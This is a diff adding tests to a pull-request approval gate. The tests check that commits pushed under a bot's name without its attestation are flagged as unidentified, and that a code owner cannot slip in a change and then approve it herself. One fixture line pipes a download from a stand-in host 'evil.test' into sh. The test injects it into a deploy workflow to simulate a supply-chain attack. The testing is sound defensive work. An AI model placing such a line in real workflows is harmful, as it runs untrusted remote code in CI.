@@ -763,3 +763,144 @@ def test_the_local_default_branch_is_the_repository_s_own_or_an_error(tmp_path) 
     git("symbolic-ref", "refs/remotes/origin/HEAD", "refs/remotes/origin/release")
     assert LocalForge(repo).default_branch() == "release"
     assert LocalForge(repo, base="trunk").default_branch() == "trunk"
+
+
+# -- who contributed -----------------------------------------------------------------------------
+
+CURL_PIPE_SH = "      - run: curl -fsSL https://evil.test/x | sh\n"
+
+
+def commit_as(repo, branch: str, files: dict[str, str], name: str, email: str) -> str:
+    """Check out ``branch`` and commit ``files`` as author and committer ``name <email>``."""
+    repo.git("checkout", "-q", branch)
+    for path, content in files.items():
+        repo.write(path, content)
+    repo.git("add", "-A")
+    identity = {
+        "GIT_AUTHOR_NAME": name,
+        "GIT_AUTHOR_EMAIL": email,
+        "GIT_COMMITTER_NAME": name,
+        "GIT_COMMITTER_EMAIL": email,
+    }
+    subprocess.run(
+        ["git", "commit", "-q", "-m", "pushed"],
+        cwd=repo.path,
+        env={**os.environ, **identity},
+        check=True,
+    )
+    sha = repo.git("rev-parse", "HEAD")
+    repo.git("checkout", "-q", "main")
+    return sha
+
+
+def alices_deploy_pull(scenario: Scenario, forge: LocalForge) -> int:
+    """Alice's own pull request changing the production deploy workflow (owned by Olivia)."""
+    deploy = (scenario.path / ".github/workflows/deploy.yml").read_text()
+    scenario.repo.git("checkout", "-q", "-b", "alice-deploy", "main")
+    scenario.repo.git("checkout", "-q", "main")
+    commit_as(
+        scenario.repo,
+        "alice-deploy",
+        {".github/workflows/deploy.yml": deploy + "# tidy\n"},
+        "alice",
+        "alice@example.test",
+    )
+    return open_human_pull(forge, "alice-deploy", "Tidy deploy", "alice")
+
+
+@pytest.mark.parametrize(
+    ("name", "email"),
+    [(BOT_NAME, BOT_EMAIL), ("olivia", BOT_EMAIL)],
+    ids=["bot-identity", "bot-email"],
+)
+def test_a_code_owner_cannot_push_under_the_bots_identity_and_approve(
+    staged, tmp_path, name, email
+) -> None:
+    scenario, forge = staged
+    number = alices_deploy_pull(scenario, forge)
+    deploy = (scenario.path / ".github/workflows/deploy.yml").read_text()
+    # Olivia, who owns deploy.yml, pushes a payload into Alice's pull request under the bot's
+    # identity (no attestation: nothing the bot signed), then approves it herself.
+    pushed = commit_as(
+        scenario.repo,
+        "alice-deploy",
+        {".github/workflows/deploy.yml": deploy + "# tidy\n" + CURL_PIPE_SH},
+        name,
+        email,
+    )
+    forge.review(number, "olivia", "APPROVED")
+    record = tmp_path / "record.json"
+    done = _cli(
+        "gate",
+        "--forge",
+        "local",
+        "--pr",
+        str(number),
+        "--repo",
+        str(scenario.path),
+        "--base",
+        "main",
+        "--verify-key",
+        str(_pub(scenario, tmp_path)),
+        "--now",
+        NOW.strftime("%Y-%m-%dT%H:%M:%SZ"),
+        "--record",
+        str(record),
+    )
+    assert done.returncode == 1, done.stdout + done.stderr
+    assert "decision: require_approval" in done.stdout
+    assert "none counts while the pull request has commits tied to no account" in done.stdout
+    pr = json.loads(record.read_text())["context"]["pr"]
+    assert (pr["contributors"], pr["contributors_known"]) == ([], False)
+    assert status(forge, pushed) == "pending"
+    comment = forge.get(number).comments["gate"]
+    assert f"**Contributors unknown:** commit(s) `{pushed[:12]}`" in comment
+
+
+def test_a_bot_pull_request_approved_by_a_reviewer_who_never_pushed_is_allowed(
+    staged, tmp_path
+) -> None:
+    scenario, forge = staged
+    number = scenario.pulls["production"]
+    forge.review(number, "bob", "APPROVED")
+    record = tmp_path / "record.json"
+    done = _cli(
+        "gate",
+        "--pr",
+        str(number),
+        "--repo",
+        str(scenario.path),
+        "--base",
+        "main",
+        "--verify-key",
+        str(_pub(scenario, tmp_path)),
+        "--now",
+        NOW.strftime("%Y-%m-%dT%H:%M:%SZ"),
+        "--record",
+        str(record),
+    )
+    assert done.returncode == 0, done.stdout + done.stderr
+    pr = json.loads(record.read_text())["context"]["pr"]
+    assert (pr["contributors"], pr["contributors_known"]) == ([], True)
+    assert pr["last_push_approval_required"] is False
+
+
+def test_a_bot_commit_needs_the_bots_attestation_not_only_its_name(staged) -> None:
+    scenario, forge = staged
+    number = scenario.pulls["production"]
+    pull = forge.pull_info(number)
+    # The bot's commit re-pushed byte for byte on the same parent is still the bot's (its
+    # attestation binds the content), whoever pushed it; the same identity on a commit that
+    # changes anything else is a person nobody can name.
+    again = bot_commit(scenario.repo, pull.head_sha, pull.base_sha, "2026-11-24T09:40:00Z")
+    scenario.repo.git("update-ref", f"refs/heads/{pull.head_ref}", again)
+    forge.review(number, "bob", "APPROVED", commit_id=again)
+    run = gate(forge, scenario, number)
+    assert run.record["context"]["pr"]["contributors_known"] is True
+    assert run.decision.outcome == "allow"
+    edited = bot_commit(scenario.repo, "main", again, "2026-11-24T09:41:00Z")
+    scenario.repo.git("update-ref", f"refs/heads/{pull.head_ref}", edited)
+    run = gate(forge, scenario, number)
+    assert run.record["context"]["pr"]["contributors_known"] is False
+    assert run.gathered is not None
+    assert run.gathered.unidentified_commits == (edited,)
